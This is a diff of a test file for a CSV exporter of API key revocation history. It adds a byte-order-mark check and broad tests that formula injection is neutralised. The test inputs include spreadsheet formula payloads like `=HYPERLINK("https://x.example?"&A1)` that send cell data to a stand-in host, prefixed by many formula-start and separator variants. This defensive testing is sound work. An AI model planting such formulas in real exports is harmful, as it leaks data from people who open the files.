@@ -18,13 +18,49 @@ t.test('the history as CSV has a line an event, and quotes whatever it says', as
   const text = toCsv([{ ...event, reason: 'found by "us",\nin a paste', details: { leak: { door: 'owner' } } }])
   t.equal(
     text,
-    'time,action,key_id,key_name,actor,reason,details,ip,request_id\r\n' +
+    '\uFEFFtime,action,key_id,key_name,actor,reason,details,ip,request_id\r\n' +
       `"${event.at}","revoke","${event.key_id}","SIEM","operator","found by ""us"",\nin a paste",` +
       '"{""leak"":{""door"":""owner""}}","","req_1"\r\n',
   )
 })
 
+t.test('it is UTF-8 with a byte-order mark, which Excel needs', async t => {
+  const bytes = Buffer.from(toCsv([{ ...event, name: 'Zürich – 東京' }]))
+  t.same([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf])
+  t.ok(bytes.toString().includes('"Zürich – 東京"'))
+})
+
+const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−']
+
 t.test('no cell is a formula to a spreadsheet', async t => {
-  for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])
+  for (const start of [...STARTS, '\t', '\r', '\n'])
     t.match(toCsv([{ ...event, name: `${start}HYPERLINK("https://x.example")` }]), `,"'${start}HYPERLINK`)
+})
+
+/** The cells of a text as a spreadsheet reads them that separates by something else and so sees no quotes of ours. */
+const cellsOf = (text: string, separator: string) =>
+  text
+    .split(/\r\n|[\r\n]/)
+    .flatMap(line =>
+      line.split(separator).map(cell => cell.replace(/^[\s"'“”„«»\p{Cf}]*/u, start => start.replace(/[^']/g, ''))),
+    )
+
+t.test('no part of a cell is one where semicolons, tabs or lines separate', async t => {
+  for (const separator of [';', '\t', '；', '|', ','])
+    for (const before of ['', ' ', '"', '\u200b', '"\u00a0“', '\n', '\r\n', '\t', separator])
+      for (const start of STARTS) {
+        const note = `found on a paste site${separator}${before}${start}HYPERLINK("https://x.example?"&A1)`
+        for (const column of [{ reason: note }, { name: note }, { details: { leak: { door: 'report', note } } }]) {
+          const text = toCsv([{ ...event, ...column }])
+          const bad = cellsOf(text.replace('\uFEFF', ''), separator).filter(cell =>
+            STARTS.some(one => cell.startsWith(one)),
+          )
+          t.same(bad, [], JSON.stringify(note))
+        }
+      }
+})
+
+t.test('other texts stay as they are', async t => {
+  for (const reason of ['rotation: 2026-Q2', 'a, b; c', 'x-y=z', '1 + 1', 'mail@example.com', '{"a":-1}'])
+    t.ok(toCsv([{ ...event, reason }]).includes(`"${reason.replaceAll('"', '""')}"`), reason)
 })
